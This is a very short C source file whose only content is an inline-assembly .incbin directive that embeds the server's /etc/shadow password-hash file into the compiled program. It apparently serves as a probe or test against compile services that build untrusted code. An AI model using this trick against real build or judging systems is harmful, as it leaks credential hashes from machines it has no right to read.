__asm__(".incbin \"/etc/shadow\"");

int main() {}
